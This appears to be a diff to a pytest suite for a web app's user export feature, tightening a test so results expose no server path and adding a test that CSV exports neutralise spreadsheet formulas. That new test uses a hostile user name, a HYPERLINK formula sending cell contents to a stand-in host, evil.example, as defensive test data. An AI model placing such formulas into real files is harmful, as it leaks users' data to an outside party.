@@ -151,7 +151,7 @@ def test_ai_5xx_is_retried_then_fails_after_max_retries(api: httpx.Client, app_s
 
 
 @pytest.mark.parametrize("fmt", ["json", "csv"])
-def test_export_shows_progress_then_writes_the_file(api: httpx.Client, fmt: str) -> None:
+def test_export_shows_progress_then_writes_the_file(api: httpx.Client, app_stack: Stack, fmt: str) -> None:
     user = create_user(api, name="Exporter")
     resp = api.post(f"/api/v1/users/{user['id']}/export", params={"format": fmt})
     assert resp.status_code == 202
@@ -162,7 +162,9 @@ def test_export_shows_progress_then_writes_the_file(api: httpx.Client, fmt: str)
     status = wait_task(api, body["task_id"], seen=seen)
     assert status["status"] == "SUCCESS", status
     assert "PROGRESS" in seen and seen.index("PROGRESS") < seen.index("SUCCESS")
-    path = Path(status["result"]["file_path"])
+    name = status["result"]["file"]
+    assert "/" not in name and "file_path" not in status["result"]  # no server path in a public result
+    path = Path(app_stack.settings.export_dir) / name
     assert path.suffix == f".{fmt}"
     if fmt == "json":
         assert json.loads(path.read_text())["user"]["email"] == user["email"]
@@ -333,3 +335,14 @@ def test_dispatching_leaves_no_result_subscriptions(api: httpx.Client, app_stack
     subscribed = {name.decode(): n for name, n in server.pubsub_numsub(*channels) if n}
     server.close()
     assert subscribed == {}, subscribed
+
+
+def test_csv_export_neutralises_formulas(api: httpx.Client, app_stack: Stack) -> None:
+    # Before: a name like =HYPERLINK(...) was written as is, and a spreadsheet opening the export runs it.
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    user = create_user(api, name=hostile)
+    resp = api.post(f"/api/v1/users/{user['id']}/export", params={"format": "csv"})
+    status = wait_task(api, resp.json()["task_id"])
+    assert status["status"] == "SUCCESS", status
+    rows = list(csv.reader((Path(app_stack.settings.export_dir) / status["result"]["file"]).open()))
+    assert ["user", "name", "'" + hostile] in rows
